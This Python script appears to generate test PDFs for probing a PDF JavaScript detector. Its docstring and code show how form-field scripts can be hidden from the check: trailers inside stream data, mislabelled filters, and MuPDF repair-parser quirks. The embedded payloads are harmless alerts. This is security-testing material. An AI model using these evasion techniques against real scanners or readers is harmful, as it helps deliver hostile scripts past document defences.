#!/usr/bin/env python3
"""Review 27 (the twenty-first session) -> ./<variant>.pdf

MuPDF 1.21 runs a form field's /AA /F (format), /K, /V and /C scripts by the
path "AA/F/JS" alone (pdf-form.c pdf_field_event_format and friends): no
/S /JavaScript.  The check exempts the two-letter /JS inside stream data on
the assumption that a script action also names /S /JavaScript.  A classic
xref table + trailer written INSIDE an uncompressed stream's data, with
startxref pointing at it, needs no "N G obj" (so no definition-in-data), and
its /Root may be a direct dictionary holding the whole document inline.

  js-fmt-trl   stream 5's data = "xref 0 1 ... trailer << /Root << inline
               catalog, page, Tx widget /AA << /F << /JS (app.alert(..)) >> >>
               >> >>"; startxref -> that "xref".  No /JavaScript anywhere.
  js-fmt-dct   the same stream declared /Filter /DCTDecode (readers never
               decode it to find the table; bytes are raw in the file).
  js-kst-trl   /AA << /K << /JS ... >> >> (keystroke) instead of /F.
  js-fmt-ctl   control: the same trailer at the top level (must be refused).
  js-ref-trl   js-fmt-trl with /JS 6 0 R: the script is object 6, a plain stream
               in the text (xref table in data lists it): "/JS 6 0 R" in data.
  js-rep-bare  no "trailer", no "xref", no "obj" in data: MuPDF's repair
               (pdf-repair.c) lexes every token outside objects and takes ANY
               top-level dictionary with /Root as a trailer.  A dictionary
               "<< /Length n >>" then "stream" between objects starts data for
               the check (top level, after ">>"), but to MuPDF's repair the
               keyword is just a token and it lexes on into the data, where
               "<< /Root << inline catalog ... /AA << /F << /JS (...) >> >> >> >>"
               is.  startxref points nowhere, so MuPDF repairs.
  js-rep-ctl   control: that dictionary at the top level, no stream around it.
  js-rep-obj   js-rep-bare inside an object: "3 0 obj /X << /Length n >> stream
               <data> endstream endobj".  MuPDF's repair (pdf_repair_obj) skips
               stream data only when the dictionary comes first after "obj";
               here it stops at the /Length number and lexes on into the data.
  js-rep-2d    the same with "3 0 obj << >> << /Length n >> stream".
  js-rep-key   "3 0 obj << 7 /Length n >> stream": one dictionary right after
               obj, but MuPDF's pdf_parse_dict fails at the key 7 ("invalid
               key in dict"), the repair swallows the error, lexes on to the
               first number (n) and from there into the data.
"""
import os, sys
OUT = os.path.dirname(os.path.abspath(__file__))


def trailer(ev):
    widget = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (100) /DA (/Helv 12 Tf 0 g) "
              b"/Rect [ 20 100 280 140 ] /F 4 /AA << /" + ev + b" << /JS (app.alert\\('PWNED by " + ev +
              b" script'\\); event.value = 'PWNED';) >> >> >>")
    return (b"trailer\n<< /Size 1 /Root << /Type /Catalog /Pages << /Type /Pages /Count 1 /Kids [ "
            b"<< /Type /Page /MediaBox [ 0 0 300 200 ] /Annots [ " + widget + b" ] >> ] >> "
            b"/AcroForm << /Fields [ ] /NeedAppearances true /DA (/Helv 12 Tf 0 g) "
            b"/DR << /Font << /Helv << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >> >> >>\n")

def root(ev):
    t = trailer(ev)
    return t[t.index(b"<<"):]

def build(v):
    b = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    if v.startswith("js-rep"):
        b += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Count 0 /Kids [ ] >>\nendobj\n"
        d = root(b"F")
        if v == "js-rep-ctl":
            b += d
        elif v == "js-rep-key":
            b += b"3 0 obj\n<< 7 /Length %d >>\nstream\n" % len(d) + d + b"\nendstream\nendobj\n"
        elif v in ("js-rep-obj", "js-rep-2d"):
            pre = b"/X " if v == "js-rep-obj" else b"<< >> "
            b += b"3 0 obj\n" + pre + b"<< /Length %d >>\nstream\n" % len(d) + d + b"\nendstream\nendobj\n"
        else:
            b += b"<< /Length %d >>\nstream\n" % len(d) + d + b"\nendstream\n"
        b += b"startxref\n999999\n%%EOF\n"
        return bytes(b)
    if v == "js-ref-trl":
        off6 = len(b)
        code = b"app.alert('PWNED by F script (stream)'); event.value = 'PWNED';"
        b += b"6 0 obj\n<< /Length %d >>\nstream\n" % len(code) + code + b"\nendstream\nendobj\n"
        table = (b"xref\n0 1\n0000000000 65535 f \n6 1\n%010d 00000 n \n" % off6 +
                 trailer(b"F").replace(b"/Size 1", b"/Size 7").replace(
                     b"(app.alert\\('PWNED by F script'\\); event.value = 'PWNED';)", b"6 0 R"))
        data = b"%% some bytes\n"
        body = data + table + b"%% more bytes\n"
        b += b"5 0 obj\n<< /Length %d >>\nstream\n" % len(body)
        x = len(b) + len(data)
        b += body + b"\nendstream\nendobj\n"
        b += b"startxref\n%d\n%%%%EOF\n" % x
        return bytes(b)
    ev = b"K" if v == "js-kst-trl" else b"F"
    table = b"xref\n0 1\n0000000000 65535 f \n" + trailer(ev)
    if v == "js-fmt-ctl":
        x = len(b)
        b += table
    else:
        filt = b"/Filter /DCTDecode " if v == "js-fmt-dct" else b""
        data = b"%% some bytes\n"
        head = b"5 0 obj\n<< " + filt + b"/Length %d >>\nstream\n"
        body = data + table + b"%% more bytes\n"
        b += head % len(body)
        x = len(b) + len(data)
        b += body + b"\nendstream\nendobj\n"
    b += b"startxref\n%d\n%%%%EOF\n" % x
    return bytes(b)

V = ["js-fmt-trl", "js-fmt-dct", "js-kst-trl", "js-fmt-ctl", "js-ref-trl", "js-rep-bare", "js-rep-ctl", "js-rep-obj", "js-rep-2d", "js-rep-key"]
for v in (sys.argv[1:] or V):
    open(os.path.join(OUT, v + ".pdf"), "wb").write(build(v)); print(v)
